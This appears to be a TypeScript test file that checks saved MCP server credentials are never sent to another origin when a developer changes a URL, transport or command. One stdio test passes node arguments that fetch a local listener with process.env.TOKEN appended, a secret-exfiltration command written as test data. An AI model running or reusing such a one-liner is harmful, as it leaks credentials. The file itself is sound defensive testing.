// Issue 16 point 6: a stored secret goes only where it was saved for. A developer who may edit a remote server but
// never saw its credentials tries to send them to a listener of their own: through "test connection" with the masked
// value and another URL, and by moving the server's URL with a PUT. Two real MCP servers on 127.0.0.1 (the saved one
// and the attacker's, on another port, so another origin); the attacker's must never receive the secrets.
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { MASK } from '../../plugins/secrets/cipher.ts'
import { fieldsOf, type ProjectApi, startProjectApi } from '../api/project-harness.ts'
import { type HttpFixture, startHttpFixture } from '../fixtures/fixture-server.ts'
import { assertNoLeftovers, fixtureServer, TEST_KEY } from '../harness.ts'

const TOKEN = 'Bearer saved-token-5e1f0c9a7b3d'
const API_KEY = 'saved-api-key-82d4c6a0e9f1'
const ENV_SECRET = 'saved-env-secret-3c7a1e5f'
const S = '/api/projects/demo/servers'

let api: ProjectApi
let saved: HttpFixture
let attacker: HttpFixture

/** Everything the attacker's listener received, headers and bodies. */
const loot = () => JSON.stringify(attacker.requests)

before(async () => {
  saved = await startHttpFixture({ transport: 'streamable-http' })
  attacker = await startHttpFixture({ transport: 'streamable-http' })
  api = await startProjectApi()
  const created = await api.call(api.dev, 'POST', S, {
    name: 'crm',
    transport: 'streamable-http',
    url: saved.url,
    headers: { Authorization: TOKEN, 'X-Api-Key': API_KEY },
  })
  assert.equal(created.status, 201, created.text)
})
after(async () => {
  try {
    await api?.close()
    await saved?.close()
    await attacker?.close()
  } finally {
    await assertNoLeftovers()
  }
})

describe('saved secrets stay with their origin', () => {
  it('test connection refuses a masked value with another origin, and sends nothing there', async () => {
    const r = await api.call(api.dev, 'POST', `${S}/test`, {
      name: 'crm',
      transport: 'streamable-http',
      url: attacker.url,
      headers: { Authorization: MASK },
    })
    assert.equal(r.status, 400, r.text)
    assert.equal(r.body.error.code, 'MCPO_ERR_VALIDATION')
    assert.deepEqual(fieldsOf(r), ['headers.Authorization'])
    assert.match(r.body.error.message, /origin/)
    const sse = await api.call(api.dev, 'POST', `${S}/test`, {
      name: 'crm',
      transport: 'sse',
      url: attacker.url.replace(/\/mcp$/, '/sse'),
      headers: { 'X-Api-Key': MASK },
    })
    assert.deepEqual(fieldsOf(sse), ['headers.X-Api-Key'], 'another transport does not help')
    assert.equal(attacker.requests.length, 0, 'the attacker received no request at all')
  })

  it('test connection still uses a masked value on the saved origin', async () => {
    const r = await api.call(api.dev, 'POST', `${S}/test`, {
      name: 'crm',
      transport: 'streamable-http',
      url: saved.url.replace('/mcp', '/mcp?probe=1'),
      headers: { Authorization: MASK },
    })
    assert.equal(r.status, 200, r.text)
    assert.equal(r.body.ok, true, r.text)
    assert.ok(saved.requests.some((q) => q.headers.authorization === TOKEN))
  })

  it('a PUT that moves the URL to another origin must re-enter every kept secret', async () => {
    const moved = await api.call(api.dev, 'PUT', `${S}/crm`, { url: attacker.url })
    assert.equal(moved.status, 400, moved.text)
    assert.deepEqual(fieldsOf(moved).sort(), ['headers.Authorization', 'headers.X-Api-Key'])
    const half = await api.call(api.dev, 'PUT', `${S}/crm`, {
      url: attacker.url,
      headers: { Authorization: MASK, 'X-Api-Key': 'typed-again' },
    })
    assert.equal(half.status, 400, half.text)
    assert.deepEqual(fieldsOf(half), ['headers.Authorization'])
    const other = new URL(saved.url)
    other.protocol = 'https:'
    const scheme = await api.call(api.dev, 'PUT', `${S}/crm`, { url: other.href })
    assert.equal(scheme.status, 400, 'the scheme is part of the origin')
    assert.equal((await api.call(api.dev, 'GET', `${S}/crm`)).body.url, saved.url, 'nothing was changed')

    // The server still answers from the saved origin, with its credentials.
    const client = await api.mcp(TEST_KEY, '/projects/demo/servers/crm/mcp')
    assert.ok((await client.listTools()).tools.some((t) => t.name === 'echo'))
    await client.close()
    assert.equal(attacker.requests.length, 0)
  })

  it('the URL may change path on the same origin, and another origin once the secrets are typed again', async () => {
    const path = await api.call(api.dev, 'PUT', `${S}/crm`, {
      url: `${saved.url}?tenant=2`,
      headers: { Authorization: MASK, 'X-Api-Key': MASK },
    })
    assert.equal(path.status, 200, path.text)
    const retyped = await api.call(api.dev, 'PUT', `${S}/crm`, {
      url: attacker.url,
      headers: { Authorization: 'Bearer typed-by-the-developer' },
    })
    assert.equal(retyped.status, 200, retyped.text)
    const client = await api.mcp(TEST_KEY, '/projects/demo/servers/crm/mcp')
    assert.ok((await client.listTools()).tools.length > 0)
    await client.close()
    assert.ok(attacker.requests.some((q) => q.headers.authorization === 'Bearer typed-by-the-developer'))
    assert.ok(!loot().includes(TOKEN.slice(7)) && !loot().includes(API_KEY), 'the saved secrets never left')
  })

  it('a stdio server keeps its env only while it runs the same command, arguments and directory', async () => {
    const created = await api.call(api.admin, 'POST', S, { ...fixtureServer('local'), env: { TOKEN: ENV_SECRET } })
    assert.equal(created.status, 201, created.text)
    const retarget = await api.call(api.admin, 'PUT', `${S}/local`, {
      args: ['-e', 'fetch("http://127.0.0.1:9/?" + process.env.TOKEN)'],
      env: { TOKEN: MASK },
    })
    assert.equal(retarget.status, 400, retarget.text)
    assert.deepEqual(fieldsOf(retarget), ['env.TOKEN'])
    assert.equal((await api.call(api.admin, 'PUT', `${S}/local`, { cwd: '/tmp' })).status, 400, 'env left out')
    const tested = await api.call(api.admin, 'POST', `${S}/test`, {
      ...fixtureServer('local'),
      args: ['-e', 'console.log(process.env.TOKEN)'],
      env: { TOKEN: MASK },
    })
    assert.deepEqual(fieldsOf(tested), ['env.TOKEN'])
    const same = await api.call(api.admin, 'PUT', `${S}/local`, { description: 'kept', env: { TOKEN: MASK } })
    assert.equal(same.status, 200, same.text)
    const retyped = await api.call(api.admin, 'PUT', `${S}/local`, { cwd: '/tmp', env: { TOKEN: 'typed-again' } })
    assert.equal(retyped.status, 200, retyped.text)
  })
})
